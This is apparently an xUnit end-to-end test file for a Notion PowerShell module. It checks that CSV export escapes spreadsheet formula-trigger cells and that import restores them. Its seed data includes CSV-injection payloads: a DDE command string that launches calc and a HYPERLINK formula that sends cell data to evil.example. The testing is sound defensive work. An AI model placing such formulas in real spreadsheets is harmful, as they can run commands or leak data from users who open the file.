using System;
using System.Collections.Generic;
using System.IO;
using System.Linq;
using System.Text.Json.Nodes;
using System.Threading.Tasks;
using Xunit;

namespace NotionPS.Tests.EndToEnd;

/// <summary>
/// Export-NotionDatabase -EscapeFormula puts ' before text cells a spreadsheet would run as formulas (= + - @, tab,
/// carriage return, and ' itself so the escape can be undone), never before numbers or dates; Import-NotionDatabase
/// -EscapeFormula takes it off again, so the round trip gives every cell back.
/// </summary>
[Collection(EmulatorCollection.Name)]
public sealed class CsvFormulaEscapeTests(EmulatorFixture emulator) : RowsTestBase(emulator), IDisposable
{
    private static readonly string[] Columns = ["Name", "Notes", "Estimate", "Priority", "Tags", "Due", "Link", "Email", "Phone"];

    private readonly string folder = Directory.CreateDirectory(Path.Combine(Path.GetTempPath(), "NotionPS.Tests", "formula-" + Guid.NewGuid().ToString("N"))).FullName;

    public new void Dispose()
    {
        Directory.Delete(folder, recursive: true);
        base.Dispose();
    }

    [Fact]
    public async Task EscapedTextCellsComeBackAsTheyWereAndNumbersAndDatesAreNeverTouched()
    {
        Connect("2026-03-11");
        var columns = new JsonObject
        {
            ["Tags"] = new JsonObject { ["type"] = "multi_select", ["options"] = new JsonArray(new JsonObject { ["name"] = "=cmd|' /C calc'!A0" }, new JsonObject { ["name"] = "a" }) },
            ["Priority"] = new JsonObject { ["type"] = "select", ["options"] = new JsonArray(new JsonObject { ["name"] = "@High" }, new JsonObject { ["name"] = "Low" }) },
        };
        var (source, sourceDataSource) = await NewDatabaseAsync("Formulas from", columns);
        var (target, _) = await NewDatabaseAsync("Formulas to", columns);
        await SeedRowsAsync(sourceDataSource, new[]
        {
            new JsonObject { ["properties"] = new JsonObject
            {
                ["Name"] = "=1+1", ["Notes"] = "=HYPERLINK(\"https://evil.example/?d=\"&A2,\"Open\")", ["Estimate"] = -2.5, ["Priority"] = "@High",
                ["Tags"] = new JsonArray("=cmd|' /C calc'!A0", "a"), ["Due"] = new JsonObject { ["start"] = "2026-03-01T09:30:00.000-05:00" },
                ["Link"] = "https://e.example/=x", ["Email"] = "-x@acme.example", ["Phone"] = "+1 555 0100",
            } },
            new JsonObject { ["properties"] = new JsonObject { ["Name"] = "'quoted", ["Notes"] = "\tTAB first", ["Estimate"] = -3, ["Priority"] = "Low" } },
            new JsonObject { ["properties"] = new JsonObject { ["Name"] = "@SUM(1,1)", ["Notes"] = "\rCR first", ["Tags"] = new JsonArray("a", "=cmd|' /C calc'!A0") } },
            new JsonObject { ["properties"] = new JsonObject { ["Name"] = "-2+3", ["Notes"] = "plain = text" } },
            new JsonObject { ["properties"] = new JsonObject { ["Name"] = "plain" } },
        });
        var escaped = Path.Combine(folder, "escaped.csv");
        var vars = Vars(("from", source), ("to", target), ("escaped", escaped));

        var exported = Session.Run("Export-NotionDatabase -DatabaseId $from -Path $escaped -EscapeFormula", vars);
        var imported = Session.Run("Import-NotionDatabase -Path $escaped -DatabaseId $to -EscapeFormula", vars);
        var original = Session.Run("Get-NotionDatabaseRow -DatabaseId $from -Sort Name", vars).Output;
        var copies = Session.Run("Get-NotionDatabaseRow -DatabaseId $to -Sort Name", vars).Output;

        Assert.Empty(exported.Errors);
        Assert.Empty(imported.Errors);
        var text = File.ReadAllText(escaped);
        foreach (var cell in new[] { "'=1+1", "'=HYPERLINK(", "'@High", "'=cmd|' /C calc'!A0; a", "'-x@acme.example", "'+1 555 0100", "''quoted", "'\tTAB first", "'@SUM(1,1)", "'\rCR first", "'-2+3" })
        {
            Assert.Contains("\"" + cell, text);
        }

        // Numbers, dates, URLs that start with a letter and text that starts with one are written as they are.
        foreach (var cell in new[] { "\"-2.5\"", "\"-3\"", "\"2026-03-01T14:30:00.000Z\"", "\"https://e.example/=x\"", "\"plain = text\"", "\"a; =cmd|' /C calc'!A0\"", "\"plain\"" })
        {
            Assert.Contains(cell, text);
        }

        Assert.Equal(5, copies.Count);
        Assert.Equal(RowCells.Of(original, Columns), RowCells.Of(copies, Columns));
    }

    [Fact]
    public async Task WithoutTheSwitchOnImportTheEscapeStaysInTheText()
    {
        Connect("2026-03-11");
        var (source, sourceDataSource) = await NewDatabaseAsync("Formulas kept from");
        var (target, _) = await NewDatabaseAsync("Formulas kept to");
        await SeedRowsAsync(sourceDataSource, new[] { new JsonObject { ["properties"] = new JsonObject { ["Name"] = "=1+1", ["Estimate"] = -1 } } });
        var escaped = Path.Combine(folder, "kept.csv");
        var vars = Vars(("from", source), ("to", target), ("escaped", escaped));

        Session.Run("Export-NotionDatabase -DatabaseId $from -Path $escaped -EscapeFormula", vars);
        var imported = Session.Run("Import-NotionDatabase -Path $escaped -DatabaseId $to -PassThru", vars);

        Assert.Empty(imported.Errors);
        var row = Assert.Single(imported.Output);
        Assert.Equal(("'=1+1", -1.0), ((string)row.Properties["Name"].Value, (double)row.Properties["Estimate"].Value));
    }

    [Fact]
    public async Task AJsonBackupIsWrittenAndReadAsItIsWithAWarning()
    {
        Connect("2026-03-11");
        var (source, sourceDataSource) = await NewDatabaseAsync("Formulas in JSON from");
        var (target, _) = await NewDatabaseAsync("Formulas in JSON to");
        await SeedRowsAsync(sourceDataSource, new[] { new JsonObject { ["properties"] = new JsonObject { ["Name"] = "=1+1" } } });
        var backup = Path.Combine(folder, "backup.json");
        var vars = Vars(("from", source), ("to", target), ("backup", backup));

        var exported = Session.Run("Export-NotionDatabase -DatabaseId $from -Path $backup -EscapeFormula", vars);
        var imported = Session.Run("Import-NotionDatabase -Path $backup -DatabaseId $to -EscapeFormula -PassThru", vars);

        Assert.Contains(exported.Warnings, warning => warning.Message.Contains("-EscapeFormula is for CSV files"));
        Assert.Contains(imported.Warnings, warning => warning.Message.Contains("-EscapeFormula is for CSV files"));
        Assert.Equal("=1+1", (string?)JsonNode.Parse(File.ReadAllText(backup))!["rows"]![0]!["cells"]!["Name"]);
        Assert.Equal("=1+1", (string)Assert.Single(imported.Output).Properties["Name"].Value);
    }
}
